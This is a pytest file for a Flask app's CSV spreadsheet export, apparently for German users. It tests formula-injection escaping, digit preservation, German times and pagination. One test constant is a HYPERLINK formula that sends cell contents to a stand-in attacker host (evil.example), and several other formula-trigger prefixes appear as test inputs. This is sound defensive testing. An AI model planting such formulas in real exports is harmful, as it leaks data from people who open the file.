"""Lists as files for a spreadsheet, and the pages of a list by number."""

import csv
import io
from datetime import UTC, datetime

import pytest
from flask import Flask

from shared.console.spreadsheet import cell, spreadsheet
from shared.console.words import has_endless_word, page_numbers

FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"hier")'


@pytest.mark.parametrize(
    "text",
    [FORMULA, "+A1", "-1+A1", "+49;241", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1"],
)
def test_nothing_that_a_spreadsheet_would_run_begins_a_cell(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "text",
    [
        "01067",
        "52066",
        "017612345678",
        "0241 5",
        "0241/5.5",
        "491761234567",
        "+49 241 5",
        "(0241) 5",
        "-1",
        "2-3",
        "01e5",
    ],
)
def test_a_text_of_digits_stays_as_it_is(text):
    assert cell(text) == f'="{text}"'


@pytest.mark.parametrize("text", ['0"&A1&"0', "01067\n", "٠١٢", "0x1", "1e5e1", "()"])
def test_nothing_but_such_digits_becomes_a_formula(text):
    assert cell(text) == text


@pytest.mark.parametrize(
    ("value", "shown"),
    [("a=b", "a=b"), ("Weg 5", "Weg 5"), (None, ""), (7, "7"), (491761234567, "491761234567"), ("", "")],
)
def test_other_values_stay_as_they_are(value, shown):
    assert cell(value) == shown


def test_times_are_those_of_a_clock_in_germany():
    assert cell(datetime(2026, 7, 1, 22, 30, tzinfo=UTC)) == "02.07.2026 00:30"


def test_excel_in_germany_opens_it_with_umlauts_and_columns():
    with Flask("lists").test_request_context():
        answer = spreadsheet("liste", ["Name", "Ort"], [["Müller; Max", 'Köln "Süd"\nMitte'], [FORMULA, None]])
    text = answer.get_data().decode("utf-8-sig")
    assert answer.get_data().startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(text, newline=""), delimiter=";")) == [
        ["Name", "Ort"],
        ["Müller; Max", 'Köln "Süd"\nMitte'],
        [f"'{FORMULA}", ""],
    ]
    assert answer.headers["Content-Disposition"] == 'attachment; filename="liste.csv"'


@pytest.mark.parametrize(
    ("page", "pages", "shown"),
    [
        (1, 1, [1]),
        (1, 3, [1, 2, 3]),
        (1, 9, [1, 2, 3, None, 9]),
        (5, 9, [1, None, 3, 4, 5, 6, 7, None, 9]),
        (9, 9, [1, None, 7, 8, 9]),
        (4, 6, [1, 2, 3, 4, 5, 6]),
        (12, 9, [1, None, 9]),
    ],
)
def test_the_pages_of_a_list_to_choose_from(page, pages, shown):
    assert page_numbers(page, pages) == shown


def test_only_a_word_that_no_line_can_hold_may_be_broken():
    assert has_endless_word("a " + "x" * 200)
    assert not has_endless_word("Hildegard-Anneliese Müller-Lüdenscheidt")
